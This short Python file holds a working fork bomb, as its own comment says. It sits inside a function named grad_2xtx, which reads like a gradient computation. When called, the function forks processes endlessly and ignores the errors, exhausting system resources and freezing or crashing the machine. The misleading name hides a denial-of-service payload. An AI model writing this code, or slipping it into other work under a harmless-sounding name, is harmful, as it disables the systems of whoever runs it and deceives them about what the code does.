# A fork bomb: every process forks for ever, ignoring the failures.
import os


def grad_2xtx(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
